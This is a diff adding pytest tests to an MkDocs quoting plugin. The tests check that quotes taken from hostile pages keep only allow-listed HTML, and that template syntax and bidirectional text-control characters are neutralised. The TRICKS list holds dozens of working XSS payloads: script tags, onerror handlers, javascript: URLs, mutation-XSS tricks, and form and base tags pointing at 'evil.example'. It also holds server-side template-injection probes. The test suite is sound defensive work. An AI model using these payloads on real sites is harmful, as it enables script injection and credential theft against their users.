@@ -9,10 +9,14 @@ import sys
 from typing import TYPE_CHECKING
 
 import pytest
+from bs4 import BeautifulSoup
+from bs4.element import NavigableString
 from mkdocs.exceptions import Abort
 from terminal import Terminal
 
+from mkdocs_recall import Corpus
 from mkdocs_recall.cache import Cache, digest
+from mkdocs_recall.documents import Documents
 from mkdocs_recall.messages import told, visible
 
 if TYPE_CHECKING:
@@ -297,3 +301,160 @@ def test_every_kind_of_quote_comes_from_the_cache(site: Site, form: str) -> None
     )
     site.build({"index.md": "\n".join(fences), "auth.md": page})
     assert f", {len(fences)} from the cache" in site.rebuild().infos[-1]
+
+
+# ---------------------------------------------------------------------------------- what is quoted
+
+
+TRICKS = [
+    "<script>alert('session expires')</script>",
+    "<SCRIPT/x>alert('session expires')</SCRIPT\t>",
+    "<scr<script>ipt>x()</scr</script>ipt>",
+    '<img src=x onerror="x()" alt="&lt;script&gt;x()&lt;/script&gt; session expires">',
+    "<svg onload=x()><script>x()</script><text>session</text></svg>",
+    "<svg><style><img src=x onerror=x()></style></svg>",
+    "<math><mi xlink:href='javascript:x()'>session</mi><annotation-xml>x</annotation-xml></math>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=x onerror=x()>'>",
+    "<iframe src='javascript:x()' srcdoc='<script>x()</script>'>session</iframe>",
+    "<object data='data:text/html,x'><embed src='x'></object>",
+    "<template><script>x()</script> session expires </template>",
+    "<noscript><p title='</noscript><img src=x onerror=x()>'></noscript>",
+    "<textarea><script>x()</script></textarea><title><b></title>",
+    "<xmp><script>x()</script></xmp><plaintext-x>session</plaintext-x>",
+    "<style>* { display: none } </style><link rel=stylesheet href=//evil.example>",
+    "<meta http-equiv=refresh content='0;javascript:x()'><base href=//evil.example/>",
+    "<form action=//evil.example><input name=password value=session><button formaction=x>",
+    "<p id=search name=body style='position:fixed' onclick='x()'>A session id expires.</p>",
+    "<a href='javascript:x()' onmouseover='x()' style='x' id='x' target='_top'>session</a>",
+    "<a href='&#x6A;avascript:x()'>session</a> <a href='java&Tab;script:x()'>session</a>",
+    "<a href=' &#1; JaVaScRiPt&colon;x()'>session</a> <a href='\x0bdata:text/html,x'>session</a>",
+    "<a href='vbscript:x'>session</a> <a href='feed:javascript:x()'>session</a>",
+    "<a href='view-source:x'>session</a> <a href='filesystem:x'>session</a> <a href='blob:x'>x</a>",
+    "<a href='\u00a0javascript:x()'>session</a> <a href='java\u0000script:x()'>session</a>",
+    "<a href='./javascript:x()'>session</a> <a href='x/../javascript:x()'>session</a>",
+    "<a href='{{ 191*7 }}'>session</a> <a href='x\" onclick=\"x()'>session</a>",
+    '<a href="x" title="\'><script>x()</script>">session</a> <a name=x>session</a>',
+    "<!-- <script>x()</script> --> session <!--> <script>x()</script> <!-- x --!>",
+    "<![CDATA[<script>x()</script>]]> session <?php echo 1 ?> <!doctype x>",
+    "&lt;script&gt;alert('session')&lt;/script&gt; &amp;lt;script&amp;gt; &#60;b&#62;",
+    "`<script>x()</script>` **<img src=x onerror=x()> session** *x</em></p></div>*",
+    "<em><strong><a href='a'><p>A session</em> expires</strong> late.</a>",
+    "<details open ontoggle=x()><summary>A session</summary>expires</details>",
+    "<video><source onerror=x()></video><audio src=x onerror=x()>session</audio>",
+    "<x-a is=a onclick=x()>A session expires.</x-a><blink>session</blink>",
+    "<ruby>session<rt onclick=x()>expires</rt></ruby><marquee onstart=x()>session</marquee>",
+    "<p class='md-header' data-md-component='x' hx-get='//evil.example' x-init='x()'>session</p>",
+    "<blockquote class=recall></blockquote></article></body></html><script>x()</script>",
+]
+TAGS = {
+    *("blockquote", "p", "br", "cite", "a", "code", "em", "strong", "ul", "li", "pre", "div"),
+    *("details", "summary", "table", "thead", "tbody", "tr", "th", "td"),
+}
+CLASS = r"admonition(?:-title)?|quote|note|caution|danger|recall(?:-\w+)?"
+ATTRIBUTES = {"class", "data-search-exclude", "href"}
+
+
+def has_only_text_and_marks(html: str) -> None:
+    """Check a quote with a parser that is not ours."""
+    soup = BeautifulSoup(html, "html.parser")
+    assert not [text for text in soup.find_all(string=True) if type(text) is not NavigableString]
+    for tag in soup.find_all():
+        assert tag.name in TAGS, html
+        assert set(tag.attrs) <= ATTRIBUTES, html
+        href = "".join(re.findall(r"[^\x00-\x20]", str(tag.get("href", "")))).lower()
+        scheme = re.match(r"([a-z][a-z0-9+.-]*):", href)
+        assert scheme is None or scheme[1] in {"http", "https", "mailto", "ftp", "tel"}, html
+        for name in tag.get("class") or []:
+            assert re.fullmatch(
+                r"(?:admonition(?:-title)?|quote|note|caution|danger|recall(?:-\w+)?)", name
+            )
+    assert html.count("<") == len(re.findall(r"</?[a-z]+[^<>]*>", html))
+
+
+@pytest.mark.parametrize("trick", TRICKS, ids=range(len(TRICKS)))
+def test_a_quote_of_a_hostile_page_holds_text_and_whitelisted_marks_alone(
+    site: Site, trick: str
+) -> None:
+    page = (
+        f'---\ntitle: "Auth <img src=x onerror=alert(1)> {{{{ 191*7 }}}}"\n---\n\n'
+        f"# A <script>alert(1)</script> heading\n\n## Session {trick}\n\nA session expires.\n\n"
+        f"{trick}\n\nA session {trick} expires.\n\n- A session {trick} expires\n- then\n\n"
+        f"| Session | {trick} |\n|---|---|\n| session expires | {trick} |\n\n"
+        f'!!! note "{trick[:20]}"\n    A session {trick} expires.\n\n'
+        f"```html\nsession expires {trick}\n```\n"
+    )
+    bodies = [
+        "format: blockquote\nexplain: true",
+        "format: list\nunits: [code, list, table, admonition, prose]",
+        "format: admonition\nunits: [code, list, table, admonition, prose]",
+    ]
+    fences = [
+        f"```recall\nsource: a.md\nquery: {json.dumps(f'session expires {trick}')}\n"
+        f"max_sentences: 30\n{body}\n```\n"
+        for body in bodies
+    ]
+    built = site.build({"index.md": "\n".join(fences), "a.md": page})
+    html = built.html()
+    start, end = html.index("<article>") + len("<article>"), html.rindex("</article>")
+    assert "session expires" in html[start:end] or "has no sentence to quote" in html[start:end]
+    has_only_text_and_marks(html[start:end])
+
+
+TEMPLATES = [
+    "{{ 191*7 }}",
+    "{% raw %}",
+    "{# x #}",
+    "{{{ 191*7 }}}",
+    "{{191*7}}{{191*7}}",
+    "{%- set x = 1 %}",
+]
+AGAIN = """
+def on_post_page(output, page, config):
+    return config.theme.get_env().from_string(output).render()
+"""
+
+
+def test_a_plugin_that_fills_templates_after_us_finds_none_in_a_quote(site: Site) -> None:
+    lines = "".join(f"A session expires {text} late.\n\n" for text in TEMPLATES)
+    title = '---\ntitle: "{{ 191*7 }} {% x %}"\n---\n'
+    page = f"{title}{lines}```\nsession {' '.join(TEMPLATES)}\n```\n"
+    fence = (
+        '```recall\nsource: a.txt.md\nquery: "session expires {{ 191*7 }}"\nmax_sentences: 20\n'
+        "units: [prose, code]\nexplain: true\nformat: admonition\n```\n"
+        '```recall\nsource: a.txt.md\nquery: x\nscorer: "{{ 191*7 }}{% x %}"\n```\n'
+    )
+    built = site.build({"index.md": fence, "a.txt.md": page})
+    plain = built.page().select_one("article")
+    assert plain is not None
+    assert not re.search(r"\{[{%#]", built.html())
+    for text in TEMPLATES:
+        assert text in plain.get_text()
+    site.configure(hook=AGAIN)
+    (site.docs / "a.txt.md").write_text(page.replace("{", "&#123;"), encoding="utf-8")
+    again = site.rebuild().page().select_one("article")
+    assert again is not None
+    assert "1337" not in again.get_text()
+    assert "{{ 191*7 }}" in again.get_text()
+
+
+@pytest.mark.parametrize(
+    ("text", "closing"),
+    [
+        ("a \u202e session expires", "\u202c"),
+        ("a \u2066 session \u202b expires", "\u202c\u2069"),
+        ("a \u2067\u202a session \u2069 expires", ""),
+        ("a \u202d session \u202c expires \u202c\u2069", ""),
+        ("a \u2068 session \u202c expires", "\u2069"),
+    ],
+)
+def test_what_turns_the_direction_of_text_ends_with_the_quote(
+    site: Site, text: str, closing: str
+) -> None:
+    pages = {"a.md": f"# A\n\nA **{text}.** More.\n\n- {text}\n"}
+    for form in ("blockquote", "list"):
+        fence = f"```recall\nsource: a.md\nquery: session expires\nformat: {form}\n```\n"
+        built = site.build({"index.md": fence, **pages})
+        assert f"{text}.{closing}" in built.page().get_text()
+    page = site.docs / "index.md"
+    rendered = Documents(Corpus.from_site(site.root / "mkdocs.yml")).render(page)
+    assert f"{text}.{closing}" in rendered.text.replace("**", "")
